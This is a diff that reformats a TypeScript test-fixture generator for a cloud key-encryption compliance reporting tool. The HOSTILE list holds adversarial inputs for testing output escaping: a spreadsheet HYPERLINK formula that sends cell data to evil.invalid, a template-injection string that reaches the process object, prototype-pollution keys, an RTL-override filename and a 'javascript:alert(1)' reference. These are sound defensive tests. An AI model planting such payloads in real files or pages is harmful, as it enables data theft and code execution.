@@ -2,7 +2,20 @@ import { createHash } from 'node:crypto';
 import { mkdirSync, writeFileSync, openSync, writeSync, closeSync } from 'node:fs';
 import { join } from 'node:path';
 import { assessmentSchema, emptyCounts, rollUp } from '../../src/model/index.ts';
-import type { Access, Assessment, Control, Finding, Leaf, Observation, Provider, ReconciliationRow, Scope, ScopeCoverage, Status, StatusCounts } from '../../src/model/index.ts';
+import type {
+  Access,
+  Assessment,
+  Control,
+  Finding,
+  Leaf,
+  Observation,
+  Provider,
+  ReconciliationRow,
+  Scope,
+  ScopeCoverage,
+  Status,
+  StatusCounts,
+} from '../../src/model/index.ts';
 
 /** Deterministic numbers (mulberry32): a fixture must be the same on every machine. */
 function random(seed: number): () => number {
@@ -26,11 +39,22 @@ export const HOSTILE = [
   'invoice\u202excod.exe',
   'zero\u200bwidth\u0000null\u0007bell\u001b[31mred',
   '=HYPERLINK("https://evil.invalid/?"&A1,"click")',
-  '+1+1', '-2+3', '@SUM(1)', '\t=1+1', '\r=1+1',
+  '+1+1',
+  '-2+3',
+  '@SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
   'lone\ud800surrogate',
-  '重要データ-バケット', 'שלום-عالم', 'ünïcödé-ß-Ω-Ж', '🔥bucket🔥',
-  '{{constructor.constructor("return process")()}}', '{{{raw}}}', '@@DATA@@ {{@marker}}',
-  '__proto__', 'constructor', 'a,b"c\nd',
+  '重要データ-バケット',
+  'שלום-عالم',
+  'ünïcödé-ß-Ω-Ж',
+  '🔥bucket🔥',
+  '{{constructor.constructor("return process")()}}',
+  '{{{raw}}}',
+  '@@DATA@@ {{@marker}}',
+  '__proto__',
+  'constructor',
+  'a,b"c\nd',
   'x'.repeat(3000),
 ] as const;
 
@@ -51,10 +75,34 @@ const SERVICES: readonly { provider: Provider; section: string; type: string; no
   { provider: 'aws', section: 'AWS / Storage', type: 'AWS::EC2::Volume', noun: 'Volumes', collector: 'aws-config' },
   { provider: 'aws', section: 'AWS / Databases', type: 'AWS::RDS::DBInstance', noun: 'Database instances', collector: 'aws-config' },
   { provider: 'aws', section: 'AWS / Keys', type: 'AWS::KMS::Key', noun: 'Keys', collector: 'aws-config' },
-  { provider: 'azure', section: 'Azure / Storage', type: 'microsoft.storage/storageaccounts', noun: 'Storage accounts', collector: 'azure-resource-graph' },
-  { provider: 'azure', section: 'Azure / Databases', type: 'microsoft.sql/servers', noun: 'SQL servers', collector: 'azure-resource-graph' },
-  { provider: 'gcp', section: 'Google Cloud / Storage', type: 'storage.googleapis.com/Bucket', noun: 'Buckets', collector: 'gcp-asset-inventory' },
-  { provider: 'gcp', section: 'Google Cloud / Databases', type: 'sqladmin.googleapis.com/Instance', noun: 'Cloud SQL instances', collector: 'gcp-asset-inventory' },
+  {
+    provider: 'azure',
+    section: 'Azure / Storage',
+    type: 'microsoft.storage/storageaccounts',
+    noun: 'Storage accounts',
+    collector: 'azure-resource-graph',
+  },
+  {
+    provider: 'azure',
+    section: 'Azure / Databases',
+    type: 'microsoft.sql/servers',
+    noun: 'SQL servers',
+    collector: 'azure-resource-graph',
+  },
+  {
+    provider: 'gcp',
+    section: 'Google Cloud / Storage',
+    type: 'storage.googleapis.com/Bucket',
+    noun: 'Buckets',
+    collector: 'gcp-asset-inventory',
+  },
+  {
+    provider: 'gcp',
+    section: 'Google Cloud / Databases',
+    type: 'sqladmin.googleapis.com/Instance',
+    noun: 'Cloud SQL instances',
+    collector: 'gcp-asset-inventory',
+  },
 ];
 
 const ASPECTS = [
@@ -69,16 +117,22 @@ const ASPECTS = [
 ] as const;
 
 const SCOPES: readonly Scope[] = [
-  { provider: 'aws', account: '111122223333', region: 'eu-west-1' }, { provider: 'aws', account: '111122223333', region: 'us-east-1' },
+  { provider: 'aws', account: '111122223333', region: 'eu-west-1' },
+  { provider: 'aws', account: '111122223333', region: 'us-east-1' },
   { provider: 'aws', account: '444455556666', region: 'eu-west-1' },
-  { provider: 'azure', account: '0b1f6471-1bf0-4dda-aec3-cb9272f09590', region: '*' }, { provider: 'azure', account: 'a7c32101-9f06-4e1c-8f6e-2d1d6fd1c301', region: '*' },
-  { provider: 'gcp', account: 'northwind-prod', region: '*' }, { provider: 'gcp', account: 'northwind-data', region: '*' },
+  { provider: 'azure', account: '0b1f6471-1bf0-4dda-aec3-cb9272f09590', region: '*' },
+  { provider: 'azure', account: 'a7c32101-9f06-4e1c-8f6e-2d1d6fd1c301', region: '*' },
+  { provider: 'gcp', account: 'northwind-prod', region: '*' },
+  { provider: 'gcp', account: 'northwind-data', region: '*' },
 ];
 
 function control(index: number): Control & { type: string; collector: string } {
   const service = SERVICES[index % SERVICES.length] ?? SERVICES[0]!;
   const [aspect, verb] = ASPECTS[Math.floor(index / SERVICES.length) % ASPECTS.length] ?? ASPECTS[0];
-  const short = service.type.toLowerCase().replace(/^aws::|^microsoft\.|\.googleapis\.com/g, '').replace(/[^a-z0-9]+/g, '-');
+  const short = service.type
+    .toLowerCase()
+    .replace(/^aws::|^microsoft\.|\.googleapis\.com/g, '')
+    .replace(/[^a-z0-9]+/g, '-');
   const round = Math.floor(index / (SERVICES.length * ASPECTS.length));
   const manual = aspect === 'key-admins' && service.provider === 'gcp';
   return {
@@ -91,14 +145,31 @@ function control(index: number): Control & { type: string; collector: string } {
     profileApplicability: ['Level 2: critical data encrypted with customer managed keys'],
     prose: {
       description: `${service.noun} can be encrypted with a key that the provider owns, one that the provider manages in the account, or one that the customer manages.\n\nThis control asks for the last, and follows the reference from the resource to the key itself, in \`configuration.kmsKeyId\`.`,
-      rationale: 'A key under the customer\'s control can be disabled, rotated and audited by the customer, and in some services decides who can read the data at all.\n\nA provider\'s key protects against the loss of media, and against little else.',
-      impact: { pros: 'Access to the data can be withdrawn as a whole, by one action, and every use of the key is logged.', cons: 'Each key costs about 1 USD a month, and requests are billed. A key that is deleted takes the data with it: deletion has to be guarded.' },
+      rationale:
+        "A key under the customer's control can be disabled, rotated and audited by the customer, and in some services decides who can read the data at all.\n\nA provider's key protects against the loss of media, and against little else.",
+      impact: {
+        pros: 'Access to the data can be withdrawn as a whole, by one action, and every use of the key is logged.',
+        cons: 'Each key costs about 1 USD a month, and requests are billed. A key that is deleted takes the data with it: deletion has to be guarded.',
+      },
       defaultValue: 'New resources are encrypted with a key that the provider owns, unless a default has been set.',
-      prerequisites: '- A key in the same region\n- A key policy that lets the service use it\n- The permission `kms:CreateGrant` for whoever creates the resource',
-      audit: { console: '1. Open the service and choose the resource.\n2. Under "Encryption", read the key.\n3. Open the key and check that its manager is the customer and its state is enabled.', cli: 'aws s3api get-bucket-encryption --bucket "$BUCKET"\naws kms describe-key --key-id "$KEY" --query KeyMetadata.KeyManager' },
-      remediation: { console: '1. Create a key with rotation on.\n2. Edit the encryption of the resource and choose that key.\n3. Copy what was written before under the new key.', cli: 'aws kms create-key --description "critical data"\naws kms enable-key-rotation --key-id "$KEY"\naws s3api put-bucket-encryption --bucket "$BUCKET" --server-side-encryption-configuration file://cmk.json' },
+      prerequisites:
+        '- A key in the same region\n- A key policy that lets the service use it\n- The permission `kms:CreateGrant` for whoever creates the resource',
+      audit: {
+        console:
+          '1. Open the service and choose the resource.\n2. Under "Encryption", read the key.\n3. Open the key and check that its manager is the customer and its state is enabled.',
+        cli: 'aws s3api get-bucket-encryption --bucket "$BUCKET"\naws kms describe-key --key-id "$KEY" --query KeyMetadata.KeyManager',
+      },
+      remediation: {
+        console:
+          '1. Create a key with rotation on.\n2. Edit the encryption of the resource and choose that key.\n3. Copy what was written before under the new key.',
+        cli: 'aws kms create-key --description "critical data"\naws kms enable-key-rotation --key-id "$KEY"\naws s3api put-bucket-encryption --bucket "$BUCKET" --server-side-encryption-configuration file://cmk.json',
+      },
       backOut: 'Set the previous encryption again. Keep the key for as long as anything written under it exists.',
-      references: ['https://docs.aws.amazon.com/kms/latest/developerguide/concepts.html', 'https://learn.microsoft.com/azure/storage/common/customer-managed-keys-overview', 'javascript:alert(1)'],
+      references: [
+        'https://docs.aws.amazon.com/kms/latest/developerguide/concepts.html',
+        'https://learn.microsoft.com/azure/storage/common/customer-managed-keys-overview',
+        'javascript:alert(1)',
+      ],
     },
     mappings: { cis: ['AWS Foundations 7.0.0 2.1.1'], nist80053: ['SC-12', 'SC-28(1)'], iso27001: ['A.8.24'] },
     checks: [{ id: aspect, kind: manual ? 'manual' : 'condition', on: service.type, title: `${service.noun} ${verb}` }],
@@ -166,24 +237,68 @@ export function writeFixture(runDirectory: string, options: FixtureOptions = {})
       const roll = next();
       const hostile = options.hostile === true && serial % 11 === 3 ? HOSTILE[Math.floor(serial / 11) % HOSTILE.length] : undefined;
       const huge = options.huge === true && serial === 1;
-      const status: Status = !clean && (huge || hostile !== undefined) ? 'fail' : clean ? (roll < 0.85 ? 'pass' : 'notapplicable') : roll < failing ? 'fail' : roll < failing + 0.03 ? 'unknown' : roll < failing + 0.035 ? 'error' : roll < 0.9 ? 'pass' : 'notapplicable';
+      const status: Status =
+        !clean && (huge || hostile !== undefined)
+          ? 'fail'
+          : clean
+            ? roll < 0.85
+              ? 'pass'
+              : 'notapplicable'
+            : roll < failing
+              ? 'fail'
+              : roll < failing + 0.03
+                ? 'unknown'
+                : roll < failing + 0.035
+                  ? 'error'
+                  : roll < 0.9
+                    ? 'pass'
+                    : 'notapplicable';
       const plain = `${['ledger', 'payments', 'claims', 'hr', 'archive'][Math.floor(next() * 5)] ?? 'x'}-${['prod', 'eu', 'core', 'stage'][Math.floor(next() * 4)] ?? 'y'}-${(serial * 7919).toString(16).padStart(6, '0')}`;
       const name = huge ? 'H'.repeat(1_000_000) : (hostile ?? plain);
       const uid = uidOf(definition.provider, type, scope, name);
       const page = `evidence/${collector}/${scope.account}${scope.region === '*' ? '' : `.${scope.region}`}/${type.replace(/[^A-Za-z0-9]+/g, '.')}/page-${String(1 + Math.floor(serial / 100)).padStart(6, '0')}.json`;
       const waive = status === 'fail' && serial % 13 === 0;
-      if (waive) { waived += 1; waivedIn.set(scope, (waivedIn.get(scope) ?? 0) + 1); }
+      if (waive) {
+        waived += 1;
+        waivedIn.set(scope, (waivedIn.get(scope) ?? 0) + 1);
+      }
       write({
         id: uuid(`${definition.id}/${serial}`),
         control: definition.id,
         check: definition.checks[0]?.id ?? '',
-        subject: { kind: 'resource', provider: definition.provider, type, uid, name, account: scope.account, location: scope.region === '*' ? 'westeurope' : scope.region, scope, capturedAt: '2026-09-30T21:4' + String(serial % 10) + ':11Z' },
+        subject: {
+          kind: 'resource',
+          provider: definition.provider,
+          type,
+          uid,
+          name,
+          account: scope.account,
+          location: scope.region === '*' ? 'westeurope' : scope.region,
+          scope,
+          capturedAt: '2026-09-30T21:4' + String(serial % 10) + ':11Z',
+        },
         status,
         reason: reasonOf(status, definition.provider),
         leaves: leavesOf(status, definition.provider, serial),
         citations: [
-          { role: 'subject', uid, file: page, pointer: definition.provider === 'aws' ? `/Results/${serial % 100}` : `/data/${serial % 100}`, encoding: definition.provider === 'aws' ? 'json-string' : 'json' },
-          ...(status === 'unknown' ? [] : [{ role: '$key', uid: `arn:aws:kms:eu-west-1:111122223333:key/${uuid(`key${serial % 9}`)}`, file: page.replace(/\/[^/]+\/page/, '/AWS.KMS.Key/page'), pointer: `/Results/${serial % 9}`, encoding: 'json-string' as const }]),
+          {
+            role: 'subject',
+            uid,
+            file: page,
+            pointer: definition.provider === 'aws' ? `/Results/${serial % 100}` : `/data/${serial % 100}`,
+            encoding: definition.provider === 'aws' ? 'json-string' : 'json',
+          },
+          ...(status === 'unknown'
+            ? []
+            : [
+                {
+                  role: '$key',
+                  uid: `arn:aws:kms:eu-west-1:111122223333:key/${uuid(`key${serial % 9}`)}`,
+                  file: page.replace(/\/[^/]+\/page/, '/AWS.KMS.Key/page'),
+                  pointer: `/Results/${serial % 9}`,
+                  encoding: 'json-string' as const,
+                },
+              ]),
         ],
         method: 'TEST',
         ...(waive ? { waiver: 'EX-2026-014' } : {}),
@@ -197,9 +312,25 @@ export function writeFixture(runDirectory: string, options: FixtureOptions = {})
       const status: Status = index % 2 === 0 ? 'notchecked' : 'pass';
       const scope = scopes[0]!;
       write({
-        id: uuid(`${definition.id}/question`), control: definition.id, check: definition.checks[0]?.id ?? '', status, method: 'INTERVIEW',
-        subject: { kind: 'question', provider: definition.provider, type: 'question', uid: `question:${definition.id}`, name: definition.title, account: '', location: '', scope, capturedAt: null },
-        reason: status === 'pass' ? 'Answered: satisfied, by the head of platform security.' : 'No answer has been given.', leaves: [], citations: [],
+        id: uuid(`${definition.id}/question`),
+        control: definition.id,
+        check: definition.checks[0]?.id ?? '',
+        status,
+        method: 'INTERVIEW',
+        subject: {
+          kind: 'question',
+          provider: definition.provider,
+          type: 'question',
+          uid: `question:${definition.id}`,
+          name: definition.title,
+          account: '',
+          location: '',
+          scope,
+          capturedAt: null,
+        },
+        reason: status === 'pass' ? 'Answered: satisfied, by the head of platform security.' : 'No answer has been given.',
+        leaves: [],
+        citations: [],
       });
       counts[status] += 1;
       resources[status] += 1;
@@ -208,9 +339,25 @@ export function writeFixture(runDirectory: string, options: FixtureOptions = {})
       gaps = 1;
       const scope = scopes[scopes.length - 1]!;
       write({
-        id: uuid(`${definition.id}/gap`), control: definition.id, check: definition.checks[0]?.id ?? '', status: 'unknown', method: 'TEST',
-        subject: { kind: 'scope', provider: definition.provider, type, uid: `${scope.provider}/${scope.account}/${scope.region}`, name: `${scope.provider}/${scope.account}/${scope.region}`, account: scope.account, location: scope.region, scope, capturedAt: null },
-        reason: `The evidence of ${type} in ${scope.account} is not whole: access denied (AccessDeniedException).`, leaves: [], citations: [],
+        id: uuid(`${definition.id}/gap`),
+        control: definition.id,
+        check: definition.checks[0]?.id ?? '',
+        status: 'unknown',
+        method: 'TEST',
+        subject: {
+          kind: 'scope',
+          provider: definition.provider,
+          type,
+          uid: `${scope.provider}/${scope.account}/${scope.region}`,
+          name: `${scope.provider}/${scope.account}/${scope.region}`,
+          account: scope.account,
+          location: scope.region,
+          scope,
+          capturedAt: null,
+        },
+        reason: `The evidence of ${type} in ${scope.account} is not whole: access denied (AccessDeniedException).`,
+        leaves: [],
+        citations: [],
       });
     }
     if (definition.assessment === 'automated') {
@@ -220,19 +367,48 @@ export function writeFixture(runDirectory: string, options: FixtureOptions = {})
         const sum = scoped.pass + scoped.fail + scoped.unknown + scoped.error + scoped.notapplicable + excluded['not critical'];
         const bad = denied && scope === scopes[scopes.length - 1];
         reconciliation.push({
-          control: definition.id, check: definition.checks[0]?.id ?? '', scope, type,
-          count: bad && index % 2 === 0 ? null : { count: sum + (bad ? 7 : 0), source: scope.provider === 'aws' ? 'GetDiscoveredResourceCounts' : scope.provider === 'azure' ? 'Resource Graph summarize count()' : 'SearchAllResources' },
-          held: sum, pass: scoped.pass, fail: scoped.fail, unknown: scoped.unknown, error: scoped.error, notapplicable: scoped.notapplicable,
-          excluded, waived: waivedIn.get(scope) ?? 0, balanced: !bad,
-          reasons: bad ? [{ code: 'access-denied', message: `User is not authorised to list ${type}: AccessDeniedException on page 3.` }] : [],
+          control: definition.id,
+          check: definition.checks[0]?.id ?? '',
+          scope,
+          type,
+          count:
+            bad && index % 2 === 0
+              ? null
+              : {
+                  count: sum + (bad ? 7 : 0),
+                  source:
+                    scope.provider === 'aws'
+                      ? 'GetDiscoveredResourceCounts'
+                      : scope.provider === 'azure'
+                        ? 'Resource Graph summarize count()'
+                        : 'SearchAllResources',
+                },
+          held: sum,
+          pass: scoped.pass,
+          fail: scoped.fail,
+          unknown: scoped.unknown,
+          error: scoped.error,
+          notapplicable: scoped.notapplicable,
+          excluded,
+          waived: waivedIn.get(scope) ?? 0,
+          balanced: !bad,
+          reasons: bad
+            ? [{ code: 'access-denied', message: `User is not authorised to list ${type}: AccessDeniedException on page 3.` }]
+            : [],
         });
       }
     }
     const statusesPresent = (Object.keys(counts) as Status[]).filter((status) => counts[status] > 0);
     const rolled = rollUp([...statusesPresent, ...(gaps > 0 ? ['unknown' as const] : [])]) ?? 'notapplicable';
     findings.push({
-      control: definition, status: rolled, counts, waived, excluded: 11, gaps,
-      reasons: gaps > 0 ? [{ code: 'access-denied', message: `The population of ${type} in one scope could not be proved: access denied.` }] : [],
+      control: definition,
+      status: rolled,
+      counts,
+      waived,
+      excluded: 11,
+      gaps,
+      reasons:
+        gaps > 0 ? [{ code: 'access-denied', message: `The population of ${type} in one scope could not be proved: access denied.` }] : [],
       observations: { offset: start, length: offset - start, count },
     });
   }
@@ -250,16 +426,36 @@ export function writeFixture(runDirectory: string, options: FixtureOptions = {})
     version: 1,
     runId: '2026-Q3-v1',
     tool: { name: 'exhibit', version: '0.1.0' },
-    catalogue: { name: 'Exhibit catalogue', version: '0.1.0', sha256: hex('catalogue'), files: ['aws/s3', 'aws/kms', 'azure/storage', 'gcp/storage'].map((name) => ({ file: `controls/${name}.yaml`, sha256: hex(name) })) },
-    engagement: { id: 'northwind-2026-q3', title: 'Customer managed keys for critical data', entity: 'Northwind Traders Ltd', period: { from: '2026-07-01', to: '2026-09-30' }, preparedFor: 'External auditor, FY26', classification: 'Confidential' },
+    catalogue: {
+      name: 'Exhibit catalogue',
+      version: '0.1.0',
+      sha256: hex('catalogue'),
+      files: ['aws/s3', 'aws/kms', 'azure/storage', 'gcp/storage'].map((name) => ({ file: `controls/${name}.yaml`, sha256: hex(name) })),
+    },
+    engagement: {
+      id: 'northwind-2026-q3',
+      title: 'Customer managed keys for critical data',
+      entity: 'Northwind Traders Ltd',
+      period: { from: '2026-07-01', to: '2026-09-30' },
+      preparedFor: 'External auditor, FY26',
+      classification: 'Confidential',
+    },
     profile: { level: 2, title: 'Level 2' },
     parameters: { 'rotation.max-days': 365, 'freshness.aws-config.hours': 24, 'trusted.accounts': ['111122223333', '444455556666'] },
-    critical: { tags: { 'data-class': ['critical', 'restricted'] }, names: ['*-prod-*'], notCriticalTags: { 'data-class': ['public'] }, unclassified: 'critical' },
+    critical: {
+      tags: { 'data-class': ['critical', 'restricted'] },
+      names: ['*-prod-*'],
+      notCriticalTags: { 'data-class': ['public'] },
+      unclassified: 'critical',
+    },
     asOf: '2026-09-30T22:00:00Z',
     collected: { startedAt: '2026-09-30T22:00:14Z', endedAt: '2026-09-30T22:03:51Z' },
     summary: {
       ...tally(findings),
-      sections: sections.map((section) => { const list = findings.filter((finding) => finding.control.section === section); return { section, provider: list[0]!.control.provider, ...tally(list) }; }),
+      sections: sections.map((section) => {
+        const list = findings.filter((finding) => finding.control.section === section);
+        return { section, provider: list[0]!.control.provider, ...tally(list) };
+      }),
       levels: [1, 2].map((level) => ({ level, ...tally(findings.filter((finding) => finding.control.level === level)) })),
       resources,
     },
@@ -267,12 +463,52 @@ export function writeFixture(runDirectory: string, options: FixtureOptions = {})
     scopes: scopesCovered(options.whole === true),
     reconciliation,
     waivers: [
-      { id: 'EX-2026-014', control: 'aws-*', resources: ['arn:aws:s3:*:archive-*'], owner: 'Dana Fields, Storage', approver: 'Ruth Okafor, CISO', justification: 'Archive buckets move to the new key by the end of the year; read access is limited to two break-glass roles meanwhile.', approvedOn: '2026-06-12', expires: '2026-12-31', expired: false, used: findings.reduce((sum, finding) => sum + finding.waived, 0) },
-      { id: 'EX-2025-090', control: 'gcp-storage-bucket-cmk', resources: ['*'], owner: 'Lee Park', approver: 'Ruth Okafor, CISO', justification: 'Pending vendor support.', approvedOn: '2025-03-01', expires: '2026-03-01', expired: true, used: 0 },
+      {
+        id: 'EX-2026-014',
+        control: 'aws-*',
+        resources: ['arn:aws:s3:*:archive-*'],
+        owner: 'Dana Fields, Storage',
+        approver: 'Ruth Okafor, CISO',
+        justification:
+          'Archive buckets move to the new key by the end of the year; read access is limited to two break-glass roles meanwhile.',
+        approvedOn: '2026-06-12',
+        expires: '2026-12-31',
+        expired: false,
+        used: findings.reduce((sum, finding) => sum + finding.waived, 0),
+      },
+      {
+        id: 'EX-2025-090',
+        control: 'gcp-storage-bucket-cmk',
+        resources: ['*'],
+        owner: 'Lee Park',
+        approver: 'Ruth Okafor, CISO',
+        justification: 'Pending vendor support.',
+        approvedOn: '2025-03-01',
+        expires: '2026-03-01',
+        expired: true,
+        used: 0,
+      },
     ],
-    answers: [{ control: 'gcp-storage-bucket-key-admins', answer: 'satisfied', statement: 'Key administration and key use are held by different groups, reviewed each quarter. The last review is attached.', respondent: 'Ines Duarte', role: 'Head of platform security', date: '2026-09-18', validUntil: '2026-12-31', attachments: ['attachments/review-2026-q3.pdf'] }],
+    answers: [
+      {
+        control: 'gcp-storage-bucket-key-admins',
+        answer: 'satisfied',
+        statement: 'Key administration and key use are held by different groups, reviewed each quarter. The last review is attached.',
+        respondent: 'Ines Duarte',
+        role: 'Head of platform security',
+        date: '2026-09-18',
+        validUntil: '2026-12-31',
+        attachments: ['attachments/review-2026-q3.pdf'],
+      },
+    ],
     queries: queriesMade(options.whole === true),
-    access: { stores: access.length, keyBoundary: access.filter((line) => line.world === 'key-boundary').length, dataRoles: access.filter((line) => line.world === 'data-roles').length, wide: access.filter((line) => line.principals.some((principal) => principal.wide)).length, incomplete: access.filter((line) => !line.complete).length },
+    access: {
+      stores: access.length,
+      keyBoundary: access.filter((line) => line.world === 'key-boundary').length,
+      dataRoles: access.filter((line) => line.world === 'data-roles').length,
+      wide: access.filter((line) => line.principals.some((principal) => principal.wide)).length,
+      incomplete: access.filter((line) => !line.complete).length,
+    },
     redactions: 12,
     evidenceDigest: hex('evidence'),
     evidenceComplete: options.whole === true,
@@ -283,8 +519,12 @@ export function writeFixture(runDirectory: string, options: FixtureOptions = {})
 }
 
 function reasonOf(status: Status, provider: Provider): string {
-  if (status === 'fail') return provider === 'aws' ? 'The data is encrypted with the AWS managed key alias/aws/s3, not with a customer managed key.' : "The data is encrypted with the provider's key: no customer managed key is set.";
-  if (status === 'unknown') return 'The key it names lies in account 999900001111, which is not part of the evidence: its state cannot be known.';
+  if (status === 'fail')
+    return provider === 'aws'
+      ? 'The data is encrypted with the AWS managed key alias/aws/s3, not with a customer managed key.'
+      : "The data is encrypted with the provider's key: no customer managed key is set.";
+  if (status === 'unknown')
+    return 'The key it names lies in account 999900001111, which is not part of the evidence: its state cannot be known.';
   if (status === 'error') return 'The provider returned a policy document that is not valid JSON: the check could not be carried out.';
   if (status === 'notapplicable') return 'It holds no data at rest.';
   return 'The data is encrypted with a customer managed key that is enabled and rotated.';
@@ -292,25 +532,99 @@ function reasonOf(status: Status, provider: Provider): string {
 
 function leavesOf(status: Status, provider: Provider, serial: number): Leaf[] {
   const outcome = status === 'pass' ? 'true' : status === 'fail' ? 'false' : 'unknown';
-  if (provider === 'azure') return [{ id: 'cmk', path: 'properties.encryption.keySource', operator: 'equals', expected: 'Microsoft.Keyvault', observed: status === 'pass' ? 'Microsoft.Keyvault' : 'Microsoft.Storage', outcome, source: 0 }];
+  if (provider === 'azure')
+    return [
+      {
+        id: 'cmk',
+        path: 'properties.encryption.keySource',
+        operator: 'equals',
+        expected: 'Microsoft.Keyvault',
+        observed: status === 'pass' ? 'Microsoft.Keyvault' : 'Microsoft.Storage',
+        outcome,
+        source: 0,
+      },
+    ];
   return [
-    { id: 'sse-kms', path: 'supplementaryConfiguration.ServerSideEncryptionConfiguration.rules[0].applyServerSideEncryptionByDefault.sseAlgorithm', operator: 'in', expected: ['aws:kms', 'aws:kms:dsse'], observed: 'aws:kms', outcome: 'true', source: 0 },
+    {
+      id: 'sse-kms',
+      path: 'supplementaryConfiguration.ServerSideEncryptionConfiguration.rules[0].applyServerSideEncryptionByDefault.sseAlgorithm',
+      operator: 'in',
+      expected: ['aws:kms', 'aws:kms:dsse'],
+      observed: 'aws:kms',
+      outcome: 'true',
+      source: 0,
+    },
     status === 'unknown'
-      ? { id: 'key-customer', path: '$key.configuration.keyManager', operator: 'equals', expected: 'CUSTOMER', outcome: 'unknown', because: 'lookup-incomplete' }
-      : { id: 'key-customer', path: '$key.configuration.keyManager', operator: 'equals', expected: 'CUSTOMER', observed: status === 'pass' ? 'CUSTOMER' : 'AWS', outcome, source: 1 },
-    ...(serial % 5 === 0 ? [{ id: 'rotation', path: '$key.rotation.days', operator: 'atMost', expected: 365, observed: 90 + (serial % 300), outcome: 'true' as const, source: 1 }] : []),
+      ? {
+          id: 'key-customer',
+          path: '$key.configuration.keyManager',
+          operator: 'equals',
+          expected: 'CUSTOMER',
+          outcome: 'unknown',
+          because: 'lookup-incomplete',
+        }
+      : {
+          id: 'key-customer',
+          path: '$key.configuration.keyManager',
+          operator: 'equals',
+          expected: 'CUSTOMER',
+          observed: status === 'pass' ? 'CUSTOMER' : 'AWS',
+          outcome,
+          source: 1,
+        },
+    ...(serial % 5 === 0
+      ? [
+          {
+            id: 'rotation',
+            path: '$key.rotation.days',
+            operator: 'atMost',
+            expected: 365,
+            observed: 90 + (serial % 300),
+            outcome: 'true' as const,
+            source: 1,
+          },
+        ]
+      : []),
   ];
 }
 
 function scopesCovered(whole: boolean): ScopeCoverage[] {
   const covered: ScopeCoverage[] = SCOPES.map((scope) => ({
-    ...scope, collector: scope.provider === 'aws' ? 'aws-config' : scope.provider === 'azure' ? 'azure-resource-graph' : 'gcp-asset-inventory',
-    name: scope.provider === 'aws' ? 'payments-prod' : null, knownFrom: ['configured', scope.provider === 'aws' ? 'aggregator sources' : scope.provider === 'azure' ? 'resourcecontainers' : 'Resource Manager assets'],
-    status: 'complete', identity: scope.provider === 'aws' ? `arn:aws:sts::${scope.account}:assumed-role/exhibit-reader/2026-Q3` : 'exhibit-reader@northwind.example', reasons: [],
+    ...scope,
+    collector: scope.provider === 'aws' ? 'aws-config' : scope.provider === 'azure' ? 'azure-resource-graph' : 'gcp-asset-inventory',
+    name: scope.provider === 'aws' ? 'payments-prod' : null,
+    knownFrom: [
+      'configured',
+      scope.provider === 'aws' ? 'aggregator sources' : scope.provider === 'azure' ? 'resourcecontainers' : 'Resource Manager assets',
+    ],
+    status: 'complete',
+    identity:
+      scope.provider === 'aws' ? `arn:aws:sts::${scope.account}:assumed-role/exhibit-reader/2026-Q3` : 'exhibit-reader@northwind.example',
+    reasons: [],
   }));
   if (whole) return covered;
-  covered.push({ provider: 'aws', account: '777788889999', region: 'eu-west-1', collector: 'aws-config', name: 'acquired-co', knownFrom: ['aggregator sources'], status: 'denied', identity: null, reasons: [{ code: 'access-denied', message: 'AssumeRole of exhibit-reader in 777788889999 was refused: AccessDenied.' }] });
-  covered.push({ provider: 'azure', account: 'dead0000-0000-4000-8000-00000000beef', region: '*', collector: 'azure-resource-graph', name: 'sandbox', knownFrom: ['resourcecontainers'], status: 'excluded', identity: null, reasons: [{ code: 'not-selected', message: 'Not among the subscriptions that exhibit.yaml selects.' }] });
+  covered.push({
+    provider: 'aws',
+    account: '777788889999',
+    region: 'eu-west-1',
+    collector: 'aws-config',
+    name: 'acquired-co',
+    knownFrom: ['aggregator sources'],
+    status: 'denied',
+    identity: null,
+    reasons: [{ code: 'access-denied', message: 'AssumeRole of exhibit-reader in 777788889999 was refused: AccessDenied.' }],
+  });
+  covered.push({
+    provider: 'azure',
+    account: 'dead0000-0000-4000-8000-00000000beef',
+    region: '*',
+    collector: 'azure-resource-graph',
+    name: 'sandbox',
+    knownFrom: ['resourcecontainers'],
+    status: 'excluded',
+    identity: null,
+    reasons: [{ code: 'not-selected', message: 'Not among the subscriptions that exhibit.yaml selects.' }],
+  });
   return covered;
 }
 
@@ -321,12 +635,39 @@ function queriesMade(whole: boolean): Assessment['queries'] {
       const place = `${scope.account}${scope.region === '*' ? '' : `.${scope.region}`}`;
       const directory = `evidence/${service.collector}/${place}/${service.type.replace(/[^A-Za-z0-9]+/g, '.')}`;
       return {
-        directory, provider: scope.provider, collector: service.collector, scope: place,
-        operation: scope.provider === 'aws' ? 'SelectResourceConfig' : scope.provider === 'azure' ? 'Microsoft.ResourceGraph/resources' : 'ListAssets',
-        text: scope.provider === 'gcp' ? null : scope.provider === 'aws' ? `SELECT *, configuration, supplementaryConfiguration, tags WHERE resourceType = '${service.type}'` : `resources | where type =~ '${service.type}' | order by id asc`,
-        identity: 'arn:aws:sts::111122223333:assumed-role/exhibit-reader/2026-Q3', endpoint: 'https://config.eu-west-1.amazonaws.com', status: denied ? 'denied' : 'complete',
-        pages: denied ? 2 : 4, items: denied ? 200 : 351, bytes: 812_345 + index, startedAt: '2026-09-30T22:00:20Z', endedAt: '2026-09-30T22:00:41Z', sha256: hex(directory),
-        reasons: denied ? [{ code: 'access-denied', message: 'AccessDeniedException: not authorised to perform config:SelectResourceConfig (page 3 of an unknown number).' }] : [],
+        directory,
+        provider: scope.provider,
+        collector: service.collector,
+        scope: place,
+        operation:
+          scope.provider === 'aws'
+            ? 'SelectResourceConfig'
+            : scope.provider === 'azure'
+              ? 'Microsoft.ResourceGraph/resources'
+              : 'ListAssets',
+        text:
+          scope.provider === 'gcp'
+            ? null
+            : scope.provider === 'aws'
+              ? `SELECT *, configuration, supplementaryConfiguration, tags WHERE resourceType = '${service.type}'`
+              : `resources | where type =~ '${service.type}' | order by id asc`,
+        identity: 'arn:aws:sts::111122223333:assumed-role/exhibit-reader/2026-Q3',
+        endpoint: 'https://config.eu-west-1.amazonaws.com',
+        status: denied ? 'denied' : 'complete',
+        pages: denied ? 2 : 4,
+        items: denied ? 200 : 351,
+        bytes: 812_345 + index,
+        startedAt: '2026-09-30T22:00:20Z',
+        endedAt: '2026-09-30T22:00:41Z',
+        sha256: hex(directory),
+        reasons: denied
+          ? [
+              {
+                code: 'access-denied',
+                message: 'AccessDeniedException: not authorised to perform config:SelectResourceConfig (page 3 of an unknown number).',
+              },
+            ]
+          : [],
       };
     }),
   );
@@ -337,15 +678,54 @@ function accessLines(hostile: boolean): Access[] {
     const scope = SCOPES[index % SCOPES.length] ?? SCOPES[0]!;
